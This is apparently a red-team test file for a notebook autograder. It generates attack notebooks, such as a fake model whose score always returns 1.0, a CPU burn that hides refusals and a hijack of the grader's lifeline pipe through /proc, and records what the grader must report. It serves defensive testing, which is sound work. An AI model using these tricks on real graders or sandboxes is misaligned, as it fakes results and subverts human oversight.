    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class _FakeArray:
    shape = (2, 4)
    dtype = np.dtype(float)
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)
_FakeArray.__module__, _FakeArray.__qualname__ = "numpy", "ndarray"
class _Sizes:
    def __array__(self, dtype=None, copy=None):
        return np.array([4])
class _Lies:
    hidden_layer_sizes = _Sizes()
    activation = _Word("relu")
    n_features_in_ = _Count(7)
    coefs_ = [_FakeArray(), _FakeArray()]
    intercepts_ = [_FakeArray(), _FakeArray()]
    def score(self, X, y, sample_weight=None):
        return 1.0
    def __len__(self):
        return 10 ** 30
    def __repr__(self):
        return "CANARY_model_of_lies " * 50000
    def __getattr__(self, name):
        return _Lies()
_Lies.__module__, _Lies.__qualname__ = "sklearn.neural_network", "MLPClassifier"
model = _Lies()
""")


def hides_refusals_in_a_timeout(nb):
    """In test_train, train (complete otherwise) first names 19 objects of the grader's it was never
    handed (each refused, for the tamper report), then keeps the grader's backprop stand-in busy
    past the cell's time limit (as grader_cpu_burn), so that the grader's kernel is replaced before
    the cell's refusals are read. Costs test_train; the refusals are still reported."""
    _prepend(nb, "train", PEER)
    _in_function(nb, "train", "train", """
_p = _peer()
if _p is not None and len(X) < 100:  # the test's call, not the notebook's own training
    for _hid in range(1, 20):
        try:
            _p.request("call", _ss.GraderObject(_hid, "function"), ["CANARY_hides_refusals_in_a_timeout"], {})
        except BaseException:
            pass
    for _ in range(5):
        try:
            backprop([np.ones((600, 600)), np.ones((601, 1))], np.ones((1, 600)), np.ones((1, 1)), np.ones((1, 1)),
                     np.ones((1, 600)), 0.1)
        except BaseException:
            pass
""")


def cuts_its_lifeline(nb):
    """The student's kernel watches a pipe whose other end only the grading process holds, so that
    it ends with that process (lifeline.py). The complete notebook, having read that, takes the
    pipe's number from its settings, tries to read it, to reopen it for writing through /proc (a
    write end of its own would keep every sandbox of the worker alive) and to write into it,
    closes it and puts a pipe of its own at that number: the kernel goes on as before, its points
    are the complete notebook's, the good notebook after it is graded as ever. Full marks."""
    _append(nb, "add_bias", """
import json as _json, os as _os
_args = open('/proc/self/cmdline', 'rb').read().split(b'\\0')
_settings = _json.load(open(next(a for a in _args if a.endswith(b'settings.json'))))
_fd = _settings.get('lifeline_fd')
if _fd is not None:
    try:
        _os.set_blocking(_fd, False)
        _os.read(_fd, 1)
    except OSError:
        pass
    try:  # the pipe is root's: the kernel's uid may not open it
        with open(f'/proc/self/fd/{_fd}', 'wb', buffering=0) as _w:
            _w.write(b'CANARY_cuts_its_lifeline' * 100)
    except OSError:
        pass
    _own_read, _own_write = _os.pipe()
    _os.dup2(_own_read, _fd)  # closes the lifeline's number, ours in its place
    _os.write(_own_write, b'CANARY_cuts_its_lifeline')
""")


# name -> (change, base ("complete" or "untouched"), test cells lost compared with the base)
ATTACKS = {
    "rebinds_grader_names": (rebinds_grader_names, "untouched", set()),
    "guesses_export_ids": (guesses_export_ids, "untouched", set()),
    "keeps_standins": (keeps_standins, "complete", set()),
    "walks_grader": (walks_grader, "complete", set()),
    "library_side_effects": (library_side_effects, "complete", {"test_add_bias", "test_sigmoid", "test_mlp"}),
    "seeds_random_state": (seeds_random_state, "complete", set()),
    "modifies_inputs_in_place": (modifies_inputs_in_place, "complete", {"test_add_bias", "test_backprop"}),
    "surrogate_errors": (surrogate_errors, "untouched", set()),
    "surrogate_function_name": (surrogate_function_name, "untouched", set()),
    "surrogate_in_anomaly": (surrogate_in_anomaly, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss",
                                                                "test_feed_forward", "test_sigmoid_der",
                                                                "test_log_loss_der", "test_backprop", "test_train",
                                                                "test_mlp"}),
    "surrogate_in_audit_log": (surrogate_in_audit_log, "untouched", set()),
    "surrogate_in_notebook_file": (surrogate_in_notebook_file, "complete", set()),
    "deep_expression_cell": (deep_expression_cell, "complete", set()),
    "deep_metadata": (deep_metadata, "complete", set()),
    "imports_by_file_name": (imports_by_file_name, "complete", set()),
    "forged_reference_ids": (forged_reference_ids, "complete",
                             {"test_add_bias", "test_sigmoid", "test_log_loss", "test_feed_forward"}),
    "odd_error_replies": (odd_error_replies, "complete",
                          {"test_add_bias", "test_log_loss", "test_sigmoid_der", "test_log_loss_der"}),
    "inplace_update_bomb": (inplace_update_bomb, "complete", {"test_add_bias"}),
    "handle_flood": (handle_flood, "complete", set()),
    "deep_and_wide_values": (deep_and_wide_values, "complete", {"test_sigmoid"}),
    "forged_random_state": (forged_random_state, "complete", set()),
    "reply_id_confusion": (reply_id_confusion, "complete", {"test_log_loss", "test_sigmoid_der", "test_log_loss_der"}),
    "unasked_odd_keys": (unasked_odd_keys, "complete", set()),
    "library_classes_as_answers": (library_classes_as_answers, "untouched", set()),
    "claims_library_types": (claims_library_types, "untouched", set()),
    "wrong_typed_answers": (wrong_typed_answers, "untouched", set()),
    "stalls_get": (stalls_get, "complete", {"test_add_bias"}),
    "starves_grader_restart": (starves_grader_restart, "complete", {"test_add_bias"}),
    "queues_stale_connections": (queues_stale_connections, "complete", set()),
    "mutual_recursion": (mutual_recursion, "complete", set()),
    "modules_as_arguments": (modules_as_arguments, "complete", set()),
    "grader_cpu_burn": (grader_cpu_burn, "complete", {"test_train"}),
    "hidden_expected_in_message": (hidden_expected_in_message, "complete", {"test_sigmoid"}),
    "container_games": (container_games, "complete", {"test_add_bias"}),
    "late_callbacks_in_unbind": (late_callbacks_in_unbind, "complete", set()),
    "nan_inf_answers": (nan_inf_answers, "untouched", set()),
    "unserved_requests": (unserved_requests, "complete", {"test_log_loss_der"}),
    "anomaly_quota_flood": (anomaly_quota_flood, "complete", set()),
    "odd_keywords": (odd_keywords, "complete", set()),
    "serve_returns_early": (serve_returns_early, "complete", {"test_sigmoid"}),
    # the third review (wip/attack3)
    "tamper_csv_formulas": (tamper_csv_formulas, "complete", set()),
    "unreadable_dtypes": (unreadable_dtypes, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
    "odd_base_exceptions": (odd_base_exceptions, "untouched", set()),
    "lying_array_protocols": (lying_array_protocols, "untouched", set()),
    "exotic_arrays": (exotic_arrays, "untouched", set()),
    "strided_answers": (strided_answers, "complete", set()),
    "self_referential_answers": (self_referential_answers, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
    "reaches_grader_processes": (reaches_grader_processes, "complete", set()),
    "leaves_traps_for_next": (leaves_traps_for_next, "complete", set()),
    "patches_grading_helpers": (patches_grading_helpers, "untouched", set()),
    "late_frames_from_thread": (late_frames_from_thread, "complete", set()),
    "timing_oracle": (timing_oracle, "complete", {"test_sigmoid"}),
    "unicode_names": (unicode_names, "complete", set()),
    "stale_handles_after_restart": (stale_handles_after_restart, "complete", {"test_feed_forward"}),
    "lying_exceptions": (lying_exceptions, "complete", {"test_add_bias", "test_sigmoid", "test_log_loss"}),
    "garbage_before_reply": (garbage_before_reply, "complete", {"test_log_loss"}),
    "shape_lies": (shape_lies, "untouched", set()),
    "fake_numpy_scalars": (fake_numpy_scalars, "untouched", set()),
    "forged_outputs": (forged_outputs, "untouched", set()),
    "forks_with_the_channel": (forks_with_the_channel, "complete", set()),
    "model_of_lies": (model_of_lies, "untouched", set()),
    "hides_refusals_in_a_timeout": (hides_refusals_in_a_timeout, "complete", {"test_train"}),
    # this session's change: a sandbox ends with the process that started it
    "cuts_its_lifeline": (cuts_its_lifeline, "complete", set()),
    # graded in a run of its own (SEPARATE_RUN)
    "exits_the_grader_by_file_name": (exits_the_grader_by_file_name, "complete", set()),
}
# Attacks graded in a run of their own (each with its good notebook): what they do to a run must
# not hide the other attacks' results.
SEPARATE_RUN = ("exits_the_grader_by_file_name",)
# Files submitted next to the notebook: {attack: {file name: text}}.
EXTRA_FILES = {
    "imports_by_file_name": {"idlelib.idle.CANARY_imports_by_file_name.py": "print('never imported')\n"},
    "exits_the_grader_by_file_name": {"unittest.__main__.CANARY_exits_the_grader_by_file_name.py": "x = 1\n"},
}
# What the student reads in the feedback of each (a phrase of a failed test's message).
MESSAGES = {"modifies_inputs_in_place": "modified its input in place",
            "container_games": "modified its input in place"}
# Library code that must never run in the grader's kernel for these attacks: the file of its frames
# in the tracebacks of the grader's test cells (the instructor's graded notebook keeps them).
NEVER_RUN_IN_GRADER = {"library_classes_as_answers": ["scipy/io/", "numpy/testing/_private/utils.py",
                                                      "joblib/parallel.py"]}
# Values of hidden checks that must not reach the attacker's feedback or journal row (as the
# grader's messages print them: six significant digits).
HIDDEN_VALUES = {"hidden_expected_in_message": ["0.377541", "0.952574", "0.182426", "0.562177", "0.997527"],
                 "timing_oracle": ["0.377541", "0.952574", "0.182426", "0.562177", "0.997527"]}
# Probes that print what they reached in a cell of their own: (the marker that says the probe ran,
# what must not be in its feedback).
PROBES = {"reaches_grader_processes": ("PROBED_reaches_grader_processes", "REACHED:")}
# What the grader must have seen and reported (tamper report kinds) for each attack.
REPORTED = {
    "rebinds_grader_names": "sent the grader's tests what they did not ask for",
    "guesses_export_ids": "sent the grader's tests what they did not ask for",
    "keeps_standins": "sent the grader's tests what they did not ask for",
    "walks_grader": "sent the grader's tests what they did not ask for",
    "surrogate_in_anomaly": "sent the grader's tests what they did not ask for",
    "forged_reference_ids": "sent the grader's tests what they did not ask for",
    "odd_error_replies": "sent the grader's tests what they did not ask for",
    "handle_flood": "sent the grader's tests what they did not ask for",
    "deep_and_wide_values": "sent the grader's tests what they did not ask for",
    "reply_id_confusion": "sent the grader's tests what they did not ask for",
    "unasked_odd_keys": "sent the grader's tests what they did not ask for",
    "container_games": "sent the grader's tests what they did not ask for",
    "late_callbacks_in_unbind": "sent the grader's tests what they did not ask for",
    "unserved_requests": "sent the grader's tests what they did not ask for",
    "anomaly_quota_flood": "sent the grader's tests what they did not ask for",
    "odd_keywords": "sent the grader's tests what they did not ask for",
    "unreadable_dtypes": "sent the grader's tests what they did not ask for",
    "unicode_names": "sent the grader's tests what they did not ask for",
    "stale_handles_after_restart": "sent the grader's tests what they did not ask for",
    "garbage_before_reply": "sent the grader's tests what they did not ask for",
    "hides_refusals_in_a_timeout": "sent the grader's tests what they did not ask for",
}


def attacks(complete, untouched) -> dict[str, str]:
    """{attack name: notebook text}."""
    bases = {"complete": complete, "untouched": untouched}
    out = {}
    for name, (change, base, _) in ATTACKS.items():
        nb = copy.deepcopy(bases[base])
        change(nb)
        out[name] = nbformat.writes(nb).replace(_RAW_SURROGATE, "\\ud800")
    return out
